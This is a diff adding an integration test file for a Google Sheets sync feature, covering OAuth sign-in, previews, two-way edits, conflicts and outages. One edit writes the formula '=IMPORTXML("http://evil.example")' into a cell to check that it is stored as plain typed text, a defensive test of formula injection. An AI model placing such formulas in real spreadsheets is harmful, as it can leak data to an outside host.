@@ -1,0 +1,225 @@
+import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
+import { sql } from 'kysely';
+import { Tab } from '../../google/grid.ts';
+import { type GoogleServer, googleClient, openGoogle, type TestSpreadsheet } from '../../google/google-server.ts';
+import { openServer, type TestBrowser, type WholeServer } from '../whole-server.ts';
+
+let google: GoogleServer;
+let sheaf: WholeServer;
+let browser: TestBrowser;
+let shop: TestSpreadsheet;
+let account: string;
+const id = '1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789';
+const address = `https://docs.google.com/spreadsheets/d/${id}/edit#gid=0`;
+
+beforeAll(async () => {
+  google = await openGoogle();
+  sheaf = await openServer({
+    ...{ GOOGLE_SHEETS_CLIENT_ID: googleClient.id, GOOGLE_SHEETS_CLIENT_SECRET: googleClient.secret },
+    ...{ GOOGLE_API_BASE: google.base, OUTGOING_ALLOW: '127.0.0.1' },
+  });
+  browser = sheaf.browser();
+  await browser.signUp('Ann');
+});
+afterAll(async () => {
+  await sheaf[Symbol.asyncDispose]();
+  await google[Symbol.asyncDispose]();
+});
+beforeEach(() => {
+  google.before = () => 'fine';
+  const orders = new Tab(
+    0,
+    'Orders',
+    [
+      ['Item', 'Qty', 'Price', 'Total', 'Due'],
+      ['Tea', 2, 3.5, { formula: '=Qty*Price' }, 45_987],
+      ['Rice', 1, 8, { formula: '=Qty*Price' }, 45_988],
+    ],
+    [undefined, 'NUMBER', 'CURRENCY', 'CURRENCY', 'DATE'],
+  );
+  shop = {
+    ...{ id, name: 'Shop', version: 1, trashed: false, canEdit: true, isShared: true },
+    tabs: [orders, new Tab(5, 'Notes', [['Text'], ['Remember']])],
+  };
+  google.spreadsheets.set(id, shop);
+});
+
+type Json = ReturnType<typeof JSON.parse>;
+const bodyOf = (answer: { body: Json }): Json => answer.body;
+const look = (workbook: string) => browser.call('POST', `/api/workbooks/${workbook}/google/look`);
+async function connect(tabs = [0]): Promise<{ workbook: string; sheet: string }> {
+  const made = await browser.call('POST', '/api/google-sheets/workbooks', { account_id: account, address, tabs });
+  const workbook: string = bodyOf(made).workbook_id;
+  const { sheets } = bodyOf(await browser.call('GET', `/api/workbooks/${workbook}`)).workbook;
+  return { workbook, sheet: sheets[0].id };
+}
+async function rowsOf(sheet: string): Promise<Json[]> {
+  return bodyOf(await browser.call('POST', `/api/sheets/${sheet}/query`, {})).rows;
+}
+const entered = (tab: Tab | undefined) => tab?.rows.map(({ cells }) => cells.map((cell) => cell.entered));
+
+test('a person allows it at Google: with PKCE, once, in their own session; the token is kept sealed', async () => {
+  expect(bodyOf(await browser.call('GET', '/api/google-sheets'))).toMatchObject({ configured: true, accounts: [] });
+  const gone = await browser.ask('/api/google-sheets/sign-in');
+  const consent = new URL(gone.headers.get('location') ?? '');
+  expect(consent.searchParams.get('scope')).toContain('drive.file');
+  expect(consent.searchParams.get('code_challenge_method')).toBe('S256');
+  const back = (await fetch(consent, { redirect: 'manual' })).headers.get('location') ?? '';
+  // Sent on to somebody else, it puts no account into their workspace.
+  const other = sheaf.browser();
+  await other.signUp('Bob');
+  expect((await other.ask(back.replace(/code=[^&]+/, 'code=stolen'))).headers.get('location')).toContain(
+    'google=expired',
+  );
+  const again = new URL((await browser.ask('/api/google-sheets/sign-in')).headers.get('location') ?? '');
+  const home = (await fetch(again, { redirect: 'manual' })).headers.get('location') ?? '';
+  expect((await browser.ask(home)).headers.get('location')).toBe('/dashboard/workbooks?google=connected');
+  expect((await browser.ask(home)).headers.get('location')).toContain('google=expired');
+  const { accounts } = bodyOf(await browser.call('GET', '/api/google-sheets'));
+  expect(accounts).toMatchObject([{ email: 'ann@gmail.example', is_lost: false }]);
+  account = accounts[0].id;
+  const stored = await sheaf.services.database.selectFrom('google_accounts').selectAll().execute();
+  for (const token of google.refreshTokens) expect(JSON.stringify(stored)).not.toContain(token);
+  const foreign = await other.call('POST', '/api/google-sheets/preview', { account_id: account, address });
+  expect(foreign.status).toBe(404);
+});
+
+test('what would be read is shown: types, first rows, formulas locked; what is no spreadsheet is named', async () => {
+  const { body } = await browser.call('POST', '/api/google-sheets/preview', { account_id: account, address });
+  expect(body).toMatchObject({ name: 'Shop', can_edit: true });
+  expect(bodyOf({ body }).tabs[0]).toMatchObject({
+    title: 'Orders',
+    row_count: 2,
+    columns: [
+      { name: 'Item', type: 'text', locked: false },
+      { name: 'Qty', type: 'number', locked: false },
+      { name: 'Price', type: 'currency', locked: false },
+      { name: 'Total', type: 'currency', locked: true },
+      { name: 'Due', type: 'date', locked: false },
+    ],
+  });
+  expect(bodyOf({ body }).tabs[0].rows[0]).toEqual(['Tea', 2, 3.5, 7, '2025-11-26']);
+  const wrong = await browser.call('POST', '/api/google-sheets/preview', { account_id: account, address: 'my sheet' });
+  expect(wrong).toMatchObject({ status: 422, body: { error: { fields: [{ path: 'address' }] } } });
+  shop.isShared = false;
+  expect((await browser.call('POST', '/api/google-sheets/preview', { account_id: account, address })).status).toBe(404);
+});
+
+test('a mirror: rows come, edits and new rows go as they were typed, a formula is nobody’s but the sheet’s', async () => {
+  const { workbook, sheet } = await connect();
+  const [tea] = await rowsOf(sheet);
+  expect(tea.cells).toEqual({ item: 'Tea', qty: 2, price: 3.5, total: 7, due: '2025-11-26' });
+  const { source } = bodyOf(await browser.call('GET', `/api/workbooks/${workbook}`)).workbook;
+  expect(source).toMatchObject({ kind: 'google', link: { href: `https://docs.google.com/spreadsheets/d/${id}/edit` } });
+  const edit = (edits: object[]) => browser.call('POST', `/api/sheets/${sheet}/edits`, { edits });
+  const set = { kind: 'set-cells', row_id: tea.row_id, version: tea.version };
+  expect((await edit([{ ...set, cells: { total: 1 } }])).body).toMatchObject({
+    error: { fields: [{ path: 'edits.0.cells.total' }] },
+  });
+  expect((await edit([{ kind: 'add-column', name: 'More', type: 'text' }])).status).toBe(422);
+  await edit([
+    { ...set, cells: { item: '=IMPORTXML("http://evil.example")', due: '2025-12-24' } },
+    { kind: 'add-rows', rows: [{ cells: { item: '+41', qty: 4, due: '2025-12-31' } }] },
+  ]);
+  expect(bodyOf(await browser.call('GET', `/api/workbooks/${workbook}/google`)).waiting.rows).toBe(2);
+  const before = google.calls.length;
+  expect(bodyOf(await look(workbook))).toMatchObject({ problem: null, waiting: { rows: 0 } });
+  expect(entered(shop.tabs[0])?.slice(1)).toEqual([
+    ['=IMPORTXML("http://evil.example")', 2, 3.5, { formula: '=Qty*Price' }, 46_015],
+    ['Rice', 1, 8, { formula: '=Qty*Price' }, 45_988],
+    ['+41', 4, null, null, 46_022, null, null, null],
+  ]);
+  // Two changes: three reads, three writes and a look at Drive, as it would be for a hundred.
+  const kinds = google.calls.slice(before).map(({ kind }) => kind);
+  expect([kinds.filter((kind) => kind === 'read').length, kinds.filter((kind) => kind === 'write').length]).toEqual([
+    2, 3,
+  ]);
+  await look(workbook);
+  const quiet = google.calls.length;
+  await look(workbook);
+  expect(google.calls.slice(quiet).map(({ name }) => name)).toEqual(['files.get']);
+});
+
+test('sorting, new columns, a renamed tab and a deleted row there change nothing of who the rows are', async () => {
+  const { workbook, sheet } = await connect();
+  const ids = new Map((await rowsOf(sheet)).map((row) => [row.cells.item, row.row_id]));
+  const [tab] = shop.tabs;
+  tab?.rows.splice(1, 2, ...tab.rows.slice(1).toReversed());
+  tab?.moveColumn(0, 3);
+  tab?.insertColumn(1, 'Stock');
+  tab?.set(1, 1, 12);
+  if (tab) tab.title = 'Sales';
+  tab?.insert(1, 1);
+  tab?.set(1, 4, 'Milk');
+  shop.version += 1;
+  expect(bodyOf(await look(workbook)).problem).toBeNull();
+  const rows = await rowsOf(sheet);
+  expect(rows.map(({ cells }) => cells.item)).toEqual(['Milk', 'Rice', 'Tea']);
+  expect(rows.slice(1).map(({ row_id }) => row_id)).toEqual([ids.get('Rice'), ids.get('Tea')]);
+  expect(rows[1].cells.stock).toBe(12);
+  const { sheets } = bodyOf(await browser.call('GET', `/api/workbooks/${workbook}`)).workbook;
+  expect(sheets[0]).toMatchObject({ title: 'Sales' });
+  expect(sheets[0].columns.map(({ name }: { name: string }) => name)).toContain('Stock');
+  tab?.remove(2, 1);
+  shop.version += 1;
+  await look(workbook);
+  expect((await rowsOf(sheet)).map(({ cells }) => cells.item)).toEqual(['Milk', 'Tea']);
+});
+
+test('a cell that both sides changed: by rule, or the owner decides; both values are told', async () => {
+  const { workbook, sheet } = await connect();
+  const both = async (ours: string, theirs: string) => {
+    const [row] = await rowsOf(sheet);
+    const edits = [{ kind: 'set-cells', row_id: row.row_id, version: row.version, cells: { item: ours } }];
+    await browser.call('POST', `/api/sheets/${sheet}/edits`, { edits });
+    shop.tabs[0]?.set(1, 0, theirs);
+    shop.version += 1;
+    return bodyOf(await look(workbook));
+  };
+  const state = await both('here', 'there');
+  expect(state.events[0].what).toContain('“here”, in the sheet “there”. The sheet counts.');
+  expect((await rowsOf(sheet))[0].cells.item).toBe('there');
+  await browser.call('PATCH', `/api/workbooks/${workbook}/google`, { conflict_rule: 'ask' });
+  const asked = await both('mine', 'yours');
+  expect(asked.questions).toMatchObject([{ name: 'Item', ours: 'mine', theirs: 'yours' }]);
+  expect((await rowsOf(sheet))[0].cells.item).toBe('mine');
+  expect(entered(shop.tabs[0])?.[1]?.[0]).toBe('yours');
+  const [{ sheet_id, row_id, column }] = asked.questions;
+  const decide = { sheet_id, row_id, column, winner: 'app' };
+  await browser.call('POST', `/api/workbooks/${workbook}/google/conflicts`, decide);
+  expect(bodyOf(await look(workbook)).questions).toEqual([]);
+  expect(entered(shop.tabs[0])?.[1]?.[0]).toBe('mine');
+});
+
+test('while Google is away everything goes on, and the owner reads why it waits', async () => {
+  const { workbook, sheet } = await connect();
+  google.before = ({ kind }) => (kind === 'oauth' ? 'fine' : { status: 403 });
+  await browser.call('POST', `/api/sheets/${sheet}/edits`, {
+    edits: [{ kind: 'add-rows', rows: [{ cells: { item: 'Salt' } }] }],
+  });
+  const away = bodyOf(await look(workbook));
+  expect(away).toMatchObject({
+    problem: expect.stringContaining('may not'),
+    waiting: { rows: 1, since: expect.any(String) },
+  });
+  expect((await rowsOf(sheet)).at(-1).cells.item).toBe('Salt');
+  google.before = () => 'fine';
+  // The names of the columns are gone: nothing is changed by guessing.
+  const names = shop.tabs[0]?.rows.shift();
+  shop.version += 1;
+  expect(bodyOf(await look(workbook)).problem).toContain('names of the columns');
+  expect(await rowsOf(sheet)).toHaveLength(3);
+  if (names) shop.tabs[0]?.rows.unshift(names);
+  shop.version += 1;
+  expect(bodyOf(await look(workbook))).toMatchObject({ problem: null, waiting: { rows: 0 } });
+  expect(entered(shop.tabs[0])?.[3]?.[0]).toBe('Salt');
+  // The polling finds by itself what is due.
+  shop.tabs[0]?.set(1, 0, 'Green tea');
+  shop.version += 1;
+  await sql`update google_files set check_at = now() - interval '1 second' where workbook_id = ${workbook}`.execute(
+    sheaf.services.database,
+  );
+  await sheaf.services.jobs.add('google-due', {});
+  await sheaf.services.jobs.drain();
+  expect((await rowsOf(sheet))[0].cells.item).toBe('Green tea');
+});
